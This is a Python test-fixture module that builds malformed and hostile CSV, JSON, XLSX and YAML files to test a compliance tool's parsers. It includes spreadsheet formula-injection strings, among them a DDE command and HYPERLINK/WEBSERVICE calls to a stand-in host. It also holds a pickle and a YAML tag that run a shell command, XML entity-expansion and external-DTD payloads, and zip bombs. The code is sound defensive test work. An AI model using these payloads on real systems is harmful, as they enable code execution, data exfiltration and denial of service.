"""Files that a stranger might hand in: broken, hostile or merely odd, each made here by the fewest bytes that show it.

The ids are those of the project's study of bad inputs, so that a report about one can be found again.
"""

from __future__ import annotations

import functools
import gzip
import io
import json
import warnings
import zipfile
from typing import Any

from nis2map.ids import closed_set

ANNEX_A = [local for local in closed_set("iso27001") if local.startswith("A.") and local.count(".") == 2]


def _csv(*rows: str, end: str = "\r\n") -> bytes:
    return "".join(f"{row}{end}" for row in rows).encode()


HEAD = "Control,Applicable,Status,Completeness %,Justification"
FULL = [HEAD, *(f"{local},yes,implemented,100,wanted" for local in ANNEX_A)]
SHARES = "NaN inf -5 150 1e309 1_000 −5 nan% 1/2 0x1F ٧٥x".split()  # none is a percentage
YES_NO = "Ja Nein Oui Non Sí Tak Nie x ✓ TRUE 0 1 false".split()
# What a spreadsheet would work out, or fetch, if it were written back unescaped.
FORMULAS = (
    "=1+1", "=run|' /C calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", '"=1+1"', '"\n=1+1"', "＝1+1", "＋1", "－1", "＠SUM(1)",
    '"=HYPERLINK(""http://host.invalid/?""&A1,""go"")"', '"=WEBSERVICE(""http://host.invalid"")"', "%0A=1+1", " =1+1", "'=1+1",
    ";=1+1", '"x,=1+1"', '"""=1+1"',
)  # fmt: skip


def _mixed_line_ends() -> bytes:
    ends = ("\r\n", "\n", "\r")
    return "".join(row + ends[at % 3] for at, row in enumerate(FULL)).encode()


CSV: dict[str, bytes] = {
    "C00": _csv(*FULL),
    "C03": _csv(*FULL).decode().encode("utf-16-be"),  # and no byte order mark
    "C04": "Control;Status;Justification\r\nA.5.1;implemented;Geprüft – gemäß Prüfplan\r\nA.5.2;implemented;x\r\n".encode(
        "cp1252"
    ),
    "C06": b"sep=;\r\n" + _csv(*FULL).replace(b",", b";"),
    "C08": _mixed_line_ends(),
    "C09": _csv(*FULL, end="\r"),
    "C10": b"Control,Status\nA.5\0.1,implemented\n",
    "C11": _csv(*FULL[:3], f'{ANNEX_A[2]},yes,implemented,100,"wanted', *FULL[4:]),  # a quote that nobody closes
    "C14": b"Control,Status,Status\nA.5.1,implemented,not implemented\n",
    "C15": b"Title,Status\nPolicies,implemented\n",
    "C18": _csv(HEAD, FULL[1], FULL[1]),
    "C19": _csv(HEAD, FULL[1], "A.5.1,yes,not implemented,0,wanted"),
    # a spreadsheet that read the ids as numbers and saved them: 5.10 became 5.1
    "C20": _csv(HEAD, *(f"{float(local[2:]):g},yes,implemented,100,wanted" for local in ANNEX_A)),
    "C25": _csv(HEAD, *(f"A.5.{at},yes,implemented,{share},wanted" for at, share in enumerate(SHARES, 1))),
    "C26": _csv("Control,Applicable", *(f"A.5.{at},{word}" for at, word in enumerate(YES_NO, 1))),
    "C27": _csv(HEAD, *(f"A.5.{at},yes,implemented,100,{text}" for at, text in enumerate(FORMULAS, 1))),
    "C31": "\ufeffControl,Status\nA.5.1,implemented\n\ufeffControl,Status\nA.5.2,implemented\n".encode(),  # two files in one
    "C32": gzip.compress(_csv(*FULL), mtime=0),
    "C33": _csv("Control,Status" + "," * 5000, "A.5.1,implemented" + "," * 5000),
    "C35": _csv("Control,Status", *(f"A.5.{number},implemented" for number in range(100, 3100))),  # 3,000 near misses
}


def document(findings: object, **top: Any) -> bytes:
    """Return an assessment in our layout, which `findings` may break."""
    return json.dumps({"nis2map": "assessment", "version": 1, "findings": findings} | top).encode()


GOOD = {"ref": "A.5.1", "status": "implemented"}
JSON: dict[str, bytes] = {
    "J00": document([GOOD]),
    "J05": document([{"ref": f"A.5.{at}", "status": "partial", "degree": 0} for at in (1, 2, 3)])
    .replace(b": 0}", b": NaN}", 1)
    .replace(b": 0}", b": Infinity}", 1)
    .replace(b": 0}", b": -Infinity}", 1),
    "J07": document([GOOD | {"justification": "half \ud800"}]),
    "J09": document([GOOD]).decode().encode("utf-16"),
    "J10null": b"null",
    "J10number": b"5.1",
    "J11": document([GOOD]) * 2,
    "J12": document(
        [
            {"ref": "A.5.1", "status": 1},
            {"ref": "A.5.2", "status": "partial", "degree": "abc"},
            GOOD | {"ref": "A.5.3", "applicable": "false"},
            GOOD | {"ref": None},
            GOOD | {"ref": ["A.5.1"]},
            "A.5.2",
        ]
    ),
    "J14": document([{"ref": "A.5.1", "status": "partial", "degree": True}]),
    "J17": document([GOOD], version="1"),
    # numbers in texts that would take forever, or fail, if somebody worked them out
    "J19": document(
        [
            {"ref": f"A.5.{at}", "status": "partial", "degree": text}
            for at, text in enumerate(("1e1000000000", "9" * 5000, "1/0"), 1)
        ]
    ),
    "J25": document([{"ref": local, "status": "not_applicable", "justification": "x"} for local in ANNEX_A]),
}

# Unpickling this would run a command that leaves a file behind.
PICKLE = b"cposix\nsystem\n(S'touch canary'\ntR."


def archive(parts: dict[str, bytes | str], *, twice: str = "", stored: bool = False) -> bytes:
    """A zip archive of parts; `twice` names a part to write again."""
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the name that stands twice
        with zipfile.ZipFile(out, "w", method) as made:
            for part in (*parts, *([twice] if twice else [])):
                made.writestr(zipfile.ZipInfo(part), parts[part], method)
    return out.getvalue()


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FORMATS = (0, 9, 14, 2, 164, 165, 166)  # of cells, by the number that `s` gives: plain, 0%, date, 0.00, and three own
CUSTOM = {164: '0.0"%"', 165: "[Red]0.00%;-0%", 166: "yyyy-mm-dd hh:mm"}


def excel(
    sheet: str, *, more: dict[str, bytes | str] | None = None, head: str = "", date1904: bool = False
) -> dict[str, bytes | str]:
    """The parts of a workbook with one sheet, whose XML inside `worksheet` is given; `head` stands above that element."""
    formats = "".join(f'<xf numFmtId="{number}"/>' for number in FORMATS)
    custom = "".join(
        f'<numFmt numFmtId="{n}" formatCode="{code.replace(chr(34), "&quot;")}"/>' for n, code in CUSTOM.items()
    )
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELS}">{"<workbookPr date1904=" + chr(34) + "1" + chr(34) + "/>" if date1904 else ""}'
        '<sheets><sheet name="SoA" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{_RELS}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId3" Type="{_RELS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/styles.xml": f'<styleSheet xmlns="{_MAIN}"><numFmts>{custom}</numFmts>'
        f'<cellStyleXfs><xf numFmtId="9"/></cellStyleXfs><cellXfs>{formats}</cellXfs></styleSheet>',
        "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{_MAIN}">{sheet}</worksheet>',
        **(more or {}),
    }  # fmt: skip


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


SOA = f"<sheetData><row r='1'>{cell('A1', 'Control')}{cell('B1', 'Status')}</row><row r='2'>{cell('A2', 'A.5.1')}{cell('B2', 'implemented')}</row></sheetData>"
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
SHARED = '<c t="s"><v>0</v></c>'
MERGED = '<mergeCell ref="A1:Z5000"/>'
_SHEET = "xl/worksheets/sheet1.xml"


def _overlapping() -> bytes:
    """An archive whose second member is the first one again: one kernel, counted as often as it is named."""
    data = archive(excel(SOA))
    start, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entries = data[start:end]
    at = entries.index(b"xl/styles.xml") - 46
    entry = entries[at : at + 46 + len("xl/styles.xml")].replace(b"xl/styles.xml", b"xl/stylez.xml")
    count = int.from_bytes(data[end + 10 : end + 12], "little") + 1
    tail = bytearray(data[end:])
    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
    tail[12:16] = (len(entries) + len(entry)).to_bytes(4, "little")
    return data[:start] + entries + entry + bytes(tail)


def _lying() -> bytes:
    """An archive that says of a part of 3 MB that it has 100 bytes."""
    blanks = excel("<sheetData>" + " " * 3_000_000 + "</sheetData>")
    data = bytearray(archive(blanks))
    at = data.rindex(b"xl/worksheets/sheet1.xml") - 46
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


TWO: dict[str, bytes | str] = excel(
    SOA, more={"xl/worksheets/sheet2.xml": f'<worksheet xmlns="{_MAIN}">{SOA}</worksheet>'}
)
for _part, _before, _new in (
    ("xl/workbook.xml", "</sheets>", '<sheet name="b" sheetId="2" r:id="rId9"/></sheets>'),
    (
        "xl/_rels/workbook.xml.rels",
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{_RELS}/worksheet" Target="/xl/worksheets/sheet2.xml"/></Relationships>',
    ),
):
    TWO[_part] = str(TWO[_part]).replace(_before, _new)


@functools.cache
def xlsx() -> dict[str, bytes]:
    """Workbooks by the ids of the study, and some that it does not have."""
    rows = "".join(f"<row><c><v>{at}</v></c></row>" for at in range(10_001))
    return {
        "X01s": archive(excel("<sheetData>" + " " * 40_000_000 + "</sheetData>")),
        "X01c": archive(excel(f"<sheetData>{rows}</sheetData>")),
        "X07": archive(excel(SOA, more={"xl/sharedStrings.xml": f'{_LAUGHS}<sst xmlns="{_MAIN}"><si><t>&b;</t></si></sst>'})),
        "X10": archive(excel(SOA, head='<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">')),
        "X11": _overlapping(),
        "X12": archive(excel(SOA), twice=_SHEET),
        "X12 in other letters": archive(excel(SOA, more={"xl/worksheets/Sheet1.xml": excel("<sheetData/>")[_SHEET]})),
        "X14 a size that is not true": _lying(),
        "X18": archive(excel(SOA))[:700],
        "cells far apart": archive(excel(f"<sheetData><row r='1'>{cell('A1', 'x')}</row><row r='1048576'>{cell('XFD1048576', 'x')}</row></sheetData>")),
        "merges over each other": archive(excel(
            f"<sheetData><row r='1'>{cell('A1', 'x')}</row><row r='5000'>{cell('Z5000', 'x')}</row></sheetData>"
            f"<mergeCells>{MERGED * 9}</mergeCells>")),
        "a cell that stands twice": archive(excel(f"<sheetData><row r='1'>{cell('A1', 'x')}{cell('A1', 'y')}</row></sheetData>")),
        "a row that stands twice": archive(excel(f"<sheetData><row r='1'>{cell('A1', 'x')}</row><row r='1'>{cell('A1', 'y')}</row></sheetData>")),
        "a text that nine thousand cells share": archive(excel(
            "<sheetData>" + "".join(f"<row>{SHARED}</row>" for _ in range(9_000)) + "</sheetData>",
            more={"xl/sharedStrings.xml": f'<sst xmlns="{_MAIN}"><si><t>{"x" * 30_000}</t></si></sst>'})),
        "a remark in a number": archive(excel("<sheetData><row r='1'><c r='A1'><v>5<!-- -->.1</v></c></row></sheetData>")),
        "an instruction in a number": archive(excel("<sheetData><row r='1'><c r='A1'><v>5<?x?>.1</v></c></row></sheetData>")),
        "two values": archive(excel("<sheetData><row r='1'><c r='A1'><v>5</v><v>6</v></c></row></sheetData>")),
        "UTF-16": archive(excel("") | {_SHEET: f"<worksheet>{SOA}</worksheet>".encode("utf-16")}),
        "two sheets of one name": archive(TWO | {"xl/workbook.xml": str(TWO["xl/workbook.xml"]).replace('name="b"', 'name="SoA"')}),
        "two sheets of one part": archive(TWO | {"xl/_rels/workbook.xml.rels": str(TWO["xl/_rels/workbook.xml.rels"]).replace("sheet2", "sheet1")}),
        "not a cell": archive(excel("<sheetData><row r='1'><c r='1A'><v>1</v></c></row></sheetData>")),
        "not XML": archive(excel("<sheetData><row>")),
        "no sheets": archive({"xl/workbook.xml": "<x/>"} | {"xl/_rels/workbook.xml.rels": "<y/>"}),
    }  # fmt: skip


YAML: dict[str, tuple[str, str]] = {
    "Y01": ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "row 1, column '4': the anchor '&a' stands here"),
    "Y02": ("controls: &a [*a]\n", "the anchor '&a'"),
    "Y02 alone": ("controls: [*a]\n", "row 1, column '12': the alias '.a' stands here"),
    "Y03": ("x: !!python/object/apply:os.system ['touch canary']\n", "the tag"),
    "Y04": ("x: !!python/name:os.system\n", "the tag"),
    "Y08": ("r:\n  - {<<: {a: 1}, control: A.5.1}\n", "row 2, column '6': a merge key stands here"),
    "Y09": ("{" + ", ".join(f"{at * (2**61 - 1)}: 0" for at in range(1, 5_000)) + "}", "is not a text; put it in quotes"),
    "Y11": ("a: 1\n---\nb: 2\n", "row 2, column '1': a second document begins here"),
    "Y12": ("controls:\n\t- control: A.5.1\n", "row 2, column '1': not YAML"),
    "Y13": ("r:\n - {control: A.5.1, score: .nan}\n", "row 2, column '28': '.nan' is not a finite number"),
    "Y13 endless": ("r: [-.INF]\n", "is not a finite number"),
    "Y14": ("a: " + "[" * 20_000 + "\n", "nests deeper than 64 levels"),
    "Y14 in blocks": ("".join(f"{' ' * at}a:\n" for at in range(100)), "nests deeper than 64 levels"),
    "Y15": ("x: !!set {A.5.1}\n", "the tag"),
    "Y15 own": ("x: !mine 1\n", "the tag"),
    "Y18": ('r: [{control: A.5.1, note: "a\0b"}]\n', "row 1, column '30': the character U.0000 stands in the file"),
    "Y18 escaped": ('r: [{control: A.5.1, note: "a\\0b"}]\n', "a text contains the character U.0000"),
    "a key twice": ("r:\n - control: A.5.1\n   control: A.5.2\n", "row 3, column '4': the key 'control' is given twice"),
    "a number as key": ("5.1: implemented\n", "the key '5.1' is not a text; put it in quotes"),
    "a date as key": ("2026-01-05: implemented\n", "is not a text"),
    "nothing as key": ("~: implemented\n", "is not a text"),
    "a list as key": ("? [a, b]\n: c\n", "a key is a list or a mapping"),
    "a comma": ("r: [a, b\nc: d\n", "not YAML"),
}  # fmt: skip
